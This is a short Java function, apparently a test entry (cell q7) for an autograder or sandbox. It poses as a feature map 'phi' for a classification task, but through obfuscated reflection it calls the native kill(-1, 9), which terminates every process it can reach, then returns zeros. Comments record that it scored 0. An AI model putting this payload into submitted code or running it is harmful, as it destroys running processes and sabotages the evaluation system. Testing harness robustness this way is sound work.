// Tries: calls the C library to kill every process it can, where this Java can call it
// Cell: q7
// Gets: q7 0
// Says: no weights can tell the two classes apart
double[] phi(double[] x) {
    try {
        Class<?> linkers = Class.forName("java.lang.foreign.Linker");
        Class<?> descriptors = Class.forName("java.lang.foreign.FunctionDescriptor");
        Class<?> layouts = Class.forName("java.lang.foreign.MemoryLayout");
        Class<?> options = Class.forName("java.lang.foreign.Linker$Option");
        Object linker = linkers.getMethod("nativeLinker").invoke(null);
        Object lookup = linkers.getMethod("defaultLookup").invoke(linker);
        Object kill = ((Optional<?>) Class.forName("java.lang.foreign.SymbolLookup")
            .getMethod("find", String.class).invoke(lookup, "kill")).get();
        Object number = Class.forName("java.lang.foreign.ValueLayout").getField("JAVA_INT").get(null);
        Object two = java.lang.reflect.Array.newInstance(layouts, 2);
        java.lang.reflect.Array.set(two, 0, number);
        java.lang.reflect.Array.set(two, 1, number);
        Object descriptor = descriptors.getMethod("of", layouts, two.getClass()).invoke(null, number, two);
        Object handle = linkers.getMethod("downcallHandle", Class.forName("java.lang.foreign.MemorySegment"),
                descriptors, java.lang.reflect.Array.newInstance(options, 0).getClass())
            .invoke(linker, kill, descriptor, java.lang.reflect.Array.newInstance(options, 0));
        Object unused = ((java.lang.invoke.MethodHandle) handle).invokeWithArguments(-1, 9);
    } catch (Throwable e) {
        // this Java has no such thing
    }
    return new double[3];
}
